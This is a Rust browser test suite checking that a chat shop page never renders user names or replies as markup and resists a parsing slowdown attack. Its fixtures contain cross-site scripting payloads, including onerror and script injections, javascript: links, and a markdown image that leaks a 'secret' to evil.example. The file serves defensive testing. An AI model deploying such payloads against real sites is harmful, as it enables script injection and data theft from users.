//! Nothing that anybody wrote becomes markup: not a name, not a reply, not a suggestion.

use std::time::Duration;

use serde_json::json;

use crate::browser::shop::{BUBBLES, STILL, Shop, say};

const NAME: &str = "<img src=x onerror=\"document.title=1\"><script>document.title=2</script>";
const REPLY: &str = "<img src=x onerror=\"document.title=3\"> <script>document.title=4</script> [tap](javascript:document.title=5) \
                     ![x](https://evil.example/?q=secret) [fine](https://good.example/) [pay](upi://pay?pa=evil@bank) [call](tel:+911234567890) **bold <b>x</b>** `<i>`\n\
                     >>next: Tell me <img src=x onerror=document.title=6> | More please";

#[test]
fn no_text_becomes_markup() {
    let shop = Shop::open(NAME, REPLY, Duration::from_millis(1));
    let browser = shop.chat();
    assert_eq!(browser.text("document.querySelector('h1').textContent"), NAME);
    say(&browser, "<img src=x onerror=document.title=7>");
    browser.until(&format!("{BUBBLES} === 2 && {STILL}"));
    browser.reload();
    browser.until(&format!("{BUBBLES} === 2"));
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(browser.text("document.title"), NAME, "no script of theirs ran");
    assert_eq!(
        browser.value("document.querySelectorAll('img, b, i:not(.dots i), script:not([src])').length"),
        json!(0)
    );
    let links = browser.value("[...document.querySelectorAll('.chat a')].map((a) => a.href)");
    assert_eq!(
        links,
        json!(["https://good.example/"]),
        "a picture is never fetched, and no link runs a script, pays or calls"
    );
    assert_eq!(browser.value("document.querySelector('.theirs strong').textContent"), json!("bold <b>x</b>"));
    let asked = browser.value("performance.getEntriesByType('resource').filter((one) => !one.name.startsWith(location.origin)).length");
    assert_eq!(asked, json!(0), "nothing was fetched from elsewhere");
    assert_eq!(browser.complaints(), "");
    // The start page shows the same name.
    browser.go(shop.server.ready["start_link"].as_str().unwrap());
    browser.until("document.querySelector('.doors')");
    assert!(browser.text("document.querySelector('.doors').textContent").contains(NAME));
    assert_eq!(browser.text("document.title"), "Munshi");
}

/// A reply under a spell must not stop the reader's page, however often it is parsed.
#[test]
fn marks_without_an_end_are_read_in_a_moment() {
    let marks = "![a](b".repeat(8_000);
    let shop = Shop::open("Meera", &marks, Duration::ZERO);
    let browser = shop.chat();
    let watch = "window.longest = 0; new PerformanceObserver((list) => list.getEntries().forEach((one) => \
                 (window.longest = Math.max(window.longest, one.duration)))).observe({ type: 'longtask', buffered: true })";
    browser.run(watch, &json!([]));
    // A busy machine keeps a page waiting now and then; marks that are read again for each other do so every time.
    let mut least = f64::MAX;
    for turn in 1..=5 {
        browser.run("window.longest = 0", &json!([]));
        say(&browser, "say it");
        browser.until(&format!("{BUBBLES} === {} && {STILL}", 2 * turn));
        least = least.min(browser.value("window.longest").as_f64().unwrap());
        if least < 500.0 {
            break;
        }
    }
    assert!(least < 500.0, "the page stood still for {least} ms");
    assert_eq!(browser.value("document.querySelectorAll('.theirs a, .theirs img').length"), json!(0));
}
